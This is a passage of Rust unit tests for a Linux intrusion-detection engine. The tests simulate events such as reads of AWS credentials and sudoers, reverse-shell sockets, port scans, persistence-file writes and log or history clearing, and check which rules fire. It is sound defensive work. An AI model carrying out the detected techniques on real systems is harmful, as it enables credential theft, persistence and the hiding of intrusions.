            "/home/u/.aws/credentials",
            SensitiveClass::CloudCredentials,
            false,
        ),
    ] {
        let got = hit(EventKind::SensitiveRead, exe, path, read(class)).contains(&dropped);
        assert_eq!(got, want, "{exe} reading {path}");
    }
    assert!(hit(
        EventKind::SensitiveRead,
        "/tmp/dumper",
        "/proc/kcore",
        read(SensitiveClass::KernelMemory)
    )
    .contains(&"kernel_memory_or_keyring_read".to_string()));
    let uring = FileDetail {
        operation: "io_uring",
        io_uring_op: Some("WRITE"),
        kernel_resolved: true,
        ..Default::default()
    };
    assert!(
        hit(EventKind::FileWrite, "/tmp/loader", "/etc/passwd", uring)
            .contains(&"watched_file_written_through_io_uring".to_string())
    );
}

#[test]
fn sensitive_reader_and_io_uring_user_model_keys() {
    use crate::families::file::FileDetail;
    let d = FileDetail {
        operation: "openat",
        sensitive: Some(tripline_common::SensitiveClass::Sudoers),
        ..Default::default()
    };
    let e = detailed_ev(EventKind::SensitiveRead, "/usr/bin/cat", "/etc/sudoers", d);
    assert_eq!(
        Model::SensitiveReader.key(&e).as_deref(),
        Some("sudoers -> /usr/bin/cat")
    );
    assert_eq!(Model::FileWriter.key(&e), None, "a read is not a write");
}

/// One novel program that connects out, starts a child and writes a file: one finding with every part,
/// while the counters still count each key.
#[test]
fn one_finding_per_novelty() {
    let mut c = DetectConfig::default();
    c.baseline.mode = Mode::Monitor;
    assert!(c.correlation_window >= Duration::from_secs(1));
    let m = Metrics::default();
    let mut e = Engine::new_at(&c, m.clone(), t(0)).unwrap();
    let novel = exec(
        700,
        "/opt/new/agent",
        &["agent"],
        Some((9, "/usr/bin/bash")),
    );
    let connect = net(
        EventKind::Connect,
        700,
        "/opt/new/agent",
        Some((9, "/usr/bin/bash")),
        "10.0.0.2:40000",
        "203.0.113.1:443",
        0,
    );
    let fork = ev(
        EventKind::Fork,
        proc(700, "/opt/new/agent", &["agent"], 33),
        Some((9, "/usr/bin/bash")),
        EventData::Fork {
            child_pid: 701,
            child_start_ns: 701 * 10_000_000,
        },
    );
    let child = exec(701, "/usr/bin/id", &["id"], Some((700, "/opt/new/agent")));
    let write = file_ev(
        EventKind::FileWrite,
        700,
        "/opt/new/agent",
        33,
        "/etc/agent.conf",
        None,
        Some((9, "/usr/bin/bash")),
    );
    for x in [&novel, &connect, &fork, &child, &write] {
        assert!(e.process_at(x, t(1)).is_empty(), "held while correlating");
    }
    let out = e.flush_at(t(1) + c.correlation_window);
    assert_eq!(out.len(), 1, "{out:#?}");
    let models: Vec<&str> = out[0]
        .parts
        .iter()
        .filter_map(|p| match &p.source {
            FindingSource::Anomaly { model, .. } => Some(model.as_str()),
            _ => None,
        })
        .collect();
    for want in [
        "process_lineage",
        "network_process",
        "outbound_port",
        "file_writer",
    ] {
        assert!(models.contains(&want), "{want} missing from {models:?}");
    }
    let counted: u64 = Model::ALL
        .iter()
        .map(|model| {
            m.anomalies
                .get_or_create(&ModelSeverityLabels {
                    model: *model,
                    severity: model.severity(),
                })
                .get()
        })
        .sum();
    assert_eq!(counted as usize, models.len(), "each key counted");
    assert!(e.flush_at(t(100)).is_empty());
}

#[test]
fn exceptions_rest_on_verified_identity() {
    // A name-only exception is refused with the field and what to use instead.
    let text = "rules:\n  - id: r\n    description: d\n    severity: high\n    tactic: execution\n    match:\n      kind: [exec]\n    except:\n      - exe_name: [dpkg]\n";
    let err = Policy::parse(text, "p.yml").unwrap_err().to_string();
    assert!(
        err.contains("except[0].exe_name") && err.contains("exe_path"),
        "{err}"
    );
    let p = Policy::load(None).unwrap();
    let rule = |id: &str| p.rules.iter().find(|r| r.id == id).unwrap();
    let ctx = Context::default();
    // A shell writing /etc/passwd: matched, whatever it calls itself.
    for (exe, comm) in [
        ("/usr/bin/dash", "useradd"),       // prctl(PR_SET_NAME)
        ("/tmp/useradd", "useradd"),        // a copy under the allowed name
        ("/home/u/bin/usermod", "usermod"), // anywhere but the system directories
    ] {
        let mut ev = file_ev(
            EventKind::FileWrite,
            90,
            exe,
            0,
            "/etc/passwd",
            None,
            Some((5, "/tmp/dpkg")),
        );
        Arc::make_mut(&mut ev).process.comm = comm.into();
        assert!(
            rule("account_or_sudo_files_changed").matches(&ev, &ctx),
            "{exe} as {comm}"
        );
    }
    let real = file_ev(
        EventKind::FileWrite,
        91,
        "/usr/sbin/useradd",
        0,
        "/etc/passwd",
        None,
        None,
    );
    assert!(!rule("account_or_sudo_files_changed").matches(&real, &ctx));
    // exe_name never reads comm: a renamed comm does not make a shell out of curl, nor the reverse.
    let mut curl = exec(92, "/usr/bin/curl", &["curl"], None);
    Arc::make_mut(&mut curl).process.comm = "bash".into();
    let sock = Context {
        stdio_socket: true,
        ..Context::default()
    };
    assert!(!rule("reverse_shell_stdio_socket").matches(&curl, &sock));
    // To match, the name executed counts besides the canonical one (`gcc` is a symlink chain to
    // `x86_64-linux-gnu-gcc-12`); a copy under another name is neither.
    let mut gcc = exec(93, "/usr/bin/x86_64-linux-gnu-gcc-12", &["gcc"], None);
    if let EventData::Exec { filename, .. } = &mut Arc::make_mut(&mut gcc).data {
        *filename = "/usr/bin/gcc".into();
    }
    assert!(rule("package_manager_or_compiler").matches(&gcc, &ctx));
    let mut renamed = exec(94, "/usr/bin/x86_64-linux-gnu-gcc-12", &["gcc"], None);
    if let EventData::Exec { filename, .. } = &mut Arc::make_mut(&mut renamed).data {
        *filename = "/usr/bin/x86_64-linux-gnu-gcc-12".into();
    }
    assert!(!rule("package_manager_or_compiler").matches(&renamed, &ctx));
}

#[test]
fn links_change_the_new_name_not_the_source() {
    let mut e = engine(Mode::Learn);
    let link = file_ev(
        EventKind::FileLink,
        95,
        "/usr/bin/ln",
        0,
        "/usr/bin/true",
        Some("/home/u/t"),
        None,
    );
    let hit = rules_hit(&mut e, &link);
    assert!(
        !hit.contains(&"system_binary_changed_outside_package_manager".to_string()),
        "{hit:?}"
    );
    let into = file_ev(
        EventKind::FileLink,
        96,
        "/usr/bin/ln",
        0,
        "/tmp/x",
        Some("/usr/bin/x"),
        None,
    );
    assert!(rules_hit(&mut e, &into)
        .contains(&"system_binary_changed_outside_package_manager".to_string()));
}

#[test]
fn scans_count_distinct_ports_per_process() {
    let mut e = engine(Mode::Learn);
    let mut fired = 0;
    for port in 1..=25u16 {
        let mut c = net(
            EventKind::Connect,
            97,
            "/usr/bin/bash",
            None,
            "127.0.0.1:40000",
            &format!("127.0.0.1:{port}"),
            -111,
        );
        Arc::make_mut(&mut c).ktime_ns = u64::from(port) * 1_000_000;
        let hit = rules_hit(&mut e, &c);
        assert!(
            !hit.iter().any(|r| r.starts_with("reverse_shell")),
            "{hit:?}"
        );
        fired += hit.iter().filter(|r| *r == "port_scan").count();
    }
    assert_eq!(fired, 1, "once per window (then deduplicated)");
    // The same port again and again is not a scan.
    let mut e = engine(Mode::Learn);
    for i in 0..30u64 {
        let mut c = net(
            EventKind::Connect,
            98,
            "/usr/bin/curl",
            None,
            "127.0.0.1:40000",
            "127.0.0.1:8080",
            0,
        );
        Arc::make_mut(&mut c).ktime_ns = i * 1_000_000;
        assert!(!rules_hit(&mut e, &c).contains(&"port_scan".to_string()));
    }
}

#[test]
fn benign_repeats_are_reported_once_per_period_and_counted() {
    let m = Metrics::default();
    let mut e = Engine::new_at(&config(), m.clone(), t(0)).unwrap();
    let q = |n: u32| {
        exec(
            800 + n,
            "/usr/bin/dpkg",
            &["dpkg", "-l", &format!("pkg{n}")],
            None,
        )
    };
    let reported: usize = (0..12)
        .map(|n| {
            e.process_at(&q(n), t(600 * u64::from(n) + 1))
                .iter()
                .filter(|f| f.source.name() == "rule:package_manager_or_compiler")
                .count()
        })
        .sum();
    assert_eq!(reported, 1, "one per 24 h for the same command shape");
    let other = exec(900, "/usr/bin/dpkg", &["dpkg", "--configure", "-a"], None);
    assert_eq!(e.process_at(&other, t(7300)).len(), 1, "a new shape is new");
    assert_eq!(
        args_shape(&[
            "x".into(),
            "--id=12345".into(),
            "0123456789abcdef0123".into()
        ]),
        "--id=0 *"
    );
}

#[test]
fn stop_signals_from_the_service_manager_are_life_cycle() {
    let mut e = engine(Mode::Learn);
    let signal = |sender: u32, auid: Option<u32>, sig: u64| {
        let exe = format!("/usr/bin/sender{sender}");
        let mut p = proc(sender, &exe, &["kill"], 0);
        p.auid = auid;
        ev(
            EventKind::SignalSelf,
            p,
            None,
            EventData::Sys(crate::model::Sys {
                syscall: "kill",
                args: [u64::from(std::process::id()), sig, 0, 0],
                name: None,
                name2: None,
                result: 0,
            }),
        )
    };
    let our_euid = unsafe { libc::geteuid() };
    assert!(
        rules_hit(&mut e, &signal(1, None, 15)).is_empty(),
        "systemd stops us"
    );
    assert!(
        rules_hit(&mut e, &signal(4242, Some(1000), 2)).is_empty() == (our_euid == 0),
        "an operator of our uid"
    );
    assert!(
        rules_hit(&mut e, &signal(4243, None, 9)).contains(&"tripline_signalled".to_string()),
        "SIGKILL"
    );
    assert!(
        rules_hit(&mut e, &signal(4244, None, 15)).contains(&"tripline_signalled".to_string()),
        "TERM from a stranger"
    );
}

#[test]
fn accepted_keys_in_the_live_file_are_taken_in() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("baseline.yml");
    let mut c = config();
    c.baseline.mode = Mode::Monitor;
    c.baseline.file = Some(file.clone());
    let mut e = Engine::new_at(&c, Metrics::default(), t(0)).unwrap();
    let x = exec(990, "/opt/new/tool", &["tool"], Some((9, "/usr/bin/bash")));
    assert!(!e.process_at(&x, t(1)).is_empty());
    e.persist().unwrap();
    // `tripline baseline accept` on the live file, while the daemon runs.
    std::thread::sleep(Duration::from_millis(20));
    let mut b = Baseline::read(&file).unwrap();
    assert!(b.accept(None, None) > 0);
    b.save(&file).unwrap();
    e.tick(t(2));
    e.persist().unwrap();
    let after = Baseline::read(&file).unwrap();
    let keys = &after.models[&Model::ProcessLineage];
    assert!(
        keys.accepted.iter().any(|k| k.ends_with("/opt/new/tool")),
        "{keys:?}"
    );
    assert!(
        keys.seen_in_monitor.is_empty(),
        "the accept is not undone: {keys:?}"
    );
}

#[test]
fn benign_rule_matches_seen_while_learning_are_not_reported_in_monitor() {
    let m = Metrics::default();
    let mut c = config();
    c.baseline.mode = Mode::Auto;
    c.baseline.learn_for = Duration::from_secs(60);
    let mut e = Engine::new_at(&c, m.clone(), t(0)).unwrap();
    let query = exec(
        820,
        "/usr/bin/dpkg",
        &["dpkg", "-l"],
        Some((9, "/usr/sbin/cron")),
    );
    let payload = exec(821, "/tmp/x", &["/tmp/x"], Some((9, "/usr/sbin/cron")));
    assert!(rules_hit(&mut e, &query).contains(&"package_manager_or_compiler".to_string()));
    assert!(rules_hit(&mut e, &payload).contains(&"exec_from_temp_or_memory".to_string()));
    e.tick(t(61));
    // After the restart of the suppression window (a new day): the learned low rule stays quiet, the high
    // one does not.
    let later = t(2 * 24 * 3600);
    let quiet = e.process_at(&query, later);
    assert!(quiet.is_empty(), "{quiet:#?}");
    assert_eq!(
        m.findings_suppressed
            .get_or_create(&SuppressedLabels {
                reason: SuppressReason::learned
            })
            .get(),
        1
    );
    let loud: Vec<String> = e
        .process_at(&payload, later)
        .iter()
        .map(|f| f.source.name())
        .collect();
    assert!(
        loud.contains(&"rule:exec_from_temp_or_memory".to_string()),
        "{loud:?}"
    );
}

#[test]
fn persistence_location_rules() {
    use EventKind::*;
    // (kind, exe, path, new path, ancestor, rule, fires)
    type Case<'a> = (
        EventKind,
        &'a str,
        &'a str,
        Option<&'a str>,
        Option<&'a str>,
        &'a str,
        bool,
    );
    let cases: &[Case] = &[
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/profile.d/x.sh",
            None,
            None,
            "shell_startup_file_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/vim",
            "/home/bob/.bashrc",
            None,
            None,
            "shell_startup_file_changed",
            true,
        ),
        (
            FileRename,
            "/usr/bin/mv",
            "/root/.x",
            Some("/root/.zshrc"),
            None,
            "shell_startup_file_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/vim",
            "/home/bob/.bashrc.d/x",
            None,
            None,
            "shell_startup_file_changed",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/dpkg",
            "/etc/profile.d/x.sh",
            None,
            None,
            "shell_startup_file_changed",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/usr/lib/x86_64-linux-gnu/security/pam_x.so",
            None,
            None,
            "pam_configuration_or_module_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/pam.d/sshd",
            None,
            None,
            "pam_configuration_or_module_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/dpkg",
            "/etc/ld.so.preload",
            None,
            None,
            "loader_preload_file_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/ld.so.conf.d/x.conf",
            None,
            None,
            "loader_library_path_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/rc3.d/S01x",
            None,
            None,
            "init_or_rc_script_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/rc.local",
            None,
            None,
            "init_or_rc_script_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/home/bob/.config/systemd/user/x.timer",
            None,
            None,
            "at_job_or_systemd_user_unit_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/var/spool/cron/atjobs/a0001",
            None,
            None,
            "at_job_or_systemd_user_unit_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/udev/rules.d/99-x.rules",
            None,
            None,
            "udev_rule_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/modprobe.d/x.conf",
            None,
            None,
            "kernel_module_load_config_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/etc/update-motd.d/99-x",
            None,
            None,
            "motd_script_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/home/bob/.ssh/rc",
            None,
            None,
            "ssh_config_changed",
            true,
        ),
        (
            FileUnlink,
            "/usr/bin/rm",
            "/root/.bash_history",
            None,
            None,
            "shell_history_removed_or_linked",
            true,
        ),
        (
            FileLink,
            "/usr/bin/ln",
            "/dev/null",
            Some("/home/bob/.zsh_history"),
            None,
            "shell_history_removed_or_linked",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/root/.bash_history",
            None,
            None,
            "shell_history_truncated",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/usr/local/sbin/x",
            None,
            None,
            "system_binary_changed_outside_package_manager",
            true,
        ),
        // System logs: deleted, emptied, moved away or linked, by anyone but rotation and the daemons.
        (
            FileUnlink,
            "/usr/bin/rm",
            "/var/log/auth.log",
            None,
            None,
            "system_log_cleared",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/dash",
            "/var/log/wtmp",
            None,
            None,
            "system_log_cleared",
            true,
        ),
        (
            FileRename,
            "/usr/bin/mv",
            "/var/log/syslog",
            Some("/tmp/s"),
            None,
            "system_log_cleared",
            true,
        ),
        (
            FileLink,
            "/usr/bin/ln",
            "/dev/null",
            Some("/var/log/btmp"),
            None,
            "system_log_cleared",
            true,
        ),
        (
            FileRename,
            "/usr/sbin/logrotate",
            "/var/log/syslog",
            Some("/var/log/syslog.1"),
            None,
            "system_log_cleared",
            false,
        ),
        (
            FileUnlink,
            "/usr/sbin/auditd",
            "/var/log/audit/audit.log.4",
            None,
            None,
            "system_log_cleared",
            false,
        ),
        (
            FileUnlink,
            "/usr/bin/rm",
            "/var/log/nginx/access.log.9.gz",
            None,
            None,
            "system_log_cleared",
            false,
        ),
    ];
    for (n, (kind, exe, path, new_path, _anc, rule, fires)) in cases.iter().enumerate() {
        let mut e = engine(Mode::Learn);
        let ev = file_ev(*kind, 200 + n as u32, exe, 0, path, *new_path, None);
        let hit = rules_hit(&mut e, &ev);
        assert_eq!(
            hit.contains(&rule.to_string()),
            *fires,
            "case {n}: {exe} {path} -> {hit:?}"
        );
    }
}

/// truncate(2) and ftruncate(2) empty a file as much as O_TRUNC does; an append does not.
#[test]
fn truncation_by_any_call() {
    let p = Policy::load(None).unwrap();
    let rule = p
        .rules
        .iter()
        .find(|r| r.id == "system_log_cleared")
        .unwrap();
    for (op, flags, want) in [
        ("truncate", 0, true),
        ("ftruncate", 0o2, true),
        ("openat", 0o1101, true),
        ("openat", 0o2101, false),
    ] {
        let mut ev = file_ev(
            EventKind::FileWrite,
            300,
            "/usr/bin/dash",
            0,
            "/var/log/auth.log",
            None,
            None,
        );
        if let EventData::File(f) = &mut Arc::make_mut(&mut ev).data {
            f.flags = flags;
            f.detail.operation = op;
        }
        assert_eq!(
            rule.matches(&ev, &Context::default()),
            want,
            "{op} {flags:o}"
        );
    }
}

#[test]
fn policy_rejects_unknown_tactic_and_empty_conditions() {
    let rule = |tactic: &str, m: &str, extra: &str| {
        format!("rules:\n  - id: r\n    description: d\n    severity: low\n    tactic: {tactic}\n    match: {m}\n{extra}")
    };
    let err = Policy::parse(&rule("teleportation", "{kind: [exec]}", ""), "p.yml")
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with("p.yml:2: rule \"r\": tactic: \"teleportation\" is not a MITRE ATT&CK tactic; allowed: reconnaissance"),
        "{err}"
    );
    for (m, extra, want) in [
        ("{}", "", "match: must hold at least one condition"),
        ("{kind: []}", "", "kind: an empty list never matches"),
        (
            "{kind: [exec]}",
            "    except:\n      - {}\n",
            "except[0]: an empty block",
        ),
        (
            "{kind: [exec]}",
            "    any_of:\n      - {exe_name: []}\n",
            "exe_name: an empty list",
        ),
    ] {
        let err = Policy::parse(&rule("execution", m, extra), "p.yml")
            .unwrap_err()
            .to_string();
        assert!(err.contains(want), "{m} {extra}: {err}");
    }
    Policy::parse(&rule("execution", "{result: failure}", ""), "p.yml").unwrap();
}

#[test]
fn policy_parse_handles_the_rule_bound() {
    let mut text = String::from("rules:\n");
    for i in 0..crate::limits::MAX_RULES {
        text.push_str(&format!(
            "  - {{id: r{i}, description: d, severity: low, tactic: execution, match: {{exe_name: [x{i}]}}}}\n"
        ));
    }
    // A duplicate at the very end still names its line (found in one pass over the text).
    text.push_str(
        "  - {id: r7, description: d, severity: low, tactic: execution, match: {kind: [exec]}}\n",
    );
    let err = Policy::parse(&text, "p.yml").unwrap_err().to_string();
    assert!(
        err.contains("too many") || err.contains("at most 10000"),
        "{err}"
    );
    let text: String = text
        .lines()
        .take(crate::limits::MAX_RULES)
        .collect::<Vec<_>>()
        .join("\n");
    let text = format!("{text}\n  - {{id: r7, description: d, severity: low, tactic: execution, match: {{kind: [exec]}}}}\n");
    let err = Policy::parse(&text, "p.yml").unwrap_err().to_string();
    assert!(
        err.starts_with("p.yml:10001: rule \"r7\": id: duplicate rule id"),
        "{err}"
    );
}

#[test]
fn unwritable_baseline_is_an_error_at_start_and_a_metric_later() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = DetectConfig::default();
    config.baseline.file = Some(dir.path().join("missing-dir/b.yml"));
    let mut reg = prometheus_client::registry::Registry::default();
    let m = Metrics::new(&mut reg);
    let err = Engine::new_at(&config, m.clone(), t(0)).err().unwrap();
    assert!(
        format!("{err:#}").contains("must exist and be writable"),
        "{err:#}"
    );

    // Writable at start, gone later: each failed save is counted.
    let sub = dir.path().join("state");
    std::fs::create_dir(&sub).unwrap();
    config.baseline.file = Some(sub.join("b.yml"));
    let mut e = Engine::new_at(&config, m.clone(), t(0)).unwrap();
    std::fs::remove_dir_all(&sub).unwrap();
    e.tick(t(61));
    e.tick(t(122));
    assert_eq!(m.baseline_write_errors.get(), 2);
}

/// Process-string globs answered from the engine's memo agree with matching each glob, for every rule
/// of the default policy, on events built from the paths the policy itself names (so that many rules
/// match), with parents, ancestors, scripts and exec file names varied.
#[test]
fn memoised_field_globs_agree_with_matching_each_glob() {
    let p = Policy::load(None).unwrap();
    let memo = std::cell::RefCell::new(policy::GlobMemo::default());
    let mut paths: Vec<String> = regex::Regex::new(r"/[A-Za-z0-9_.+-]+(/[A-Za-z0-9_.+-]+)*")
        .unwrap()
        .find_iter(policy::DEFAULT_POLICY)
        .map(|m| m.as_str().to_string())
        .chain(["/usr/bin/bash", "/tmp/x", "/dev/shm/.a", "/memfd:x"].map(String::from))
        .collect();
    paths.sort();
    paths.dedup();
    let n = paths.len();
    let ctxs = [
        Context::default(),
        Context {
            parent_network_facing: true,
            stdio_socket: true,
            connected_before: true,
            ..Context::default()
        },
    ];
    let mut matched = std::collections::BTreeSet::new();
    for (i, exe) in paths.iter().enumerate() {
        let pid = 1000 + i as u32;
        let parent = Some((50, paths[(i * 7 + 3) % n].as_str()));
        let mut evs = vec![
            exec(pid, exe, &[exe, "-c", "id"], parent),
            net(
                EventKind::Connect,
                pid,
                exe,
                parent,
                "10.0.0.2:40000",
                "10.0.0.9:4444",
                0,
            ),
            net(
                EventKind::Listen,
                pid,
                exe,
                parent,
                "0.0.0.0:8080",
                "0.0.0.0:0",
                0,
            ),
            file_ev(
                EventKind::FileWrite,
                pid,
                exe,
                0,
                &paths[(i * 11 + 1) % n],
                None,
                parent,
            ),
        ];
        for e in &mut evs {
            let e = Arc::make_mut(e);
            e.ancestors = e
                .ancestors
                .iter()
                .cloned()
                .chain([paths[(i * 13 + 5) % n].as_str().into()])
                .collect();
            if i % 3 == 0 {
                e.process.script = Some(paths[(i * 5 + 2) % n].as_str().into());
            }
            if let EventData::Exec { filename, .. } = &mut e.data {
                if i % 2 == 0 {
                    *filename = paths[(i * 17 + 9) % n].as_str().into();
                }
            }
        }
        for e in &evs {
            for ctx in &ctxs {
                let strings = policy::EventStrings::with_memo(e, &p, &memo);
                for r in &p.rules {
                    let direct = r.matches(e, ctx);
                    assert_eq!(
                        direct,
                        r.matches_strings(&strings, ctx),
                        "rule {} on {e:?}",
                        r.id
                    );
                    if direct {
                        matched.insert(r.id.clone());
                    }
                }
            }
        }
    }
    assert!(matched.len() >= 10, "too few rules exercised: {matched:?}");
}
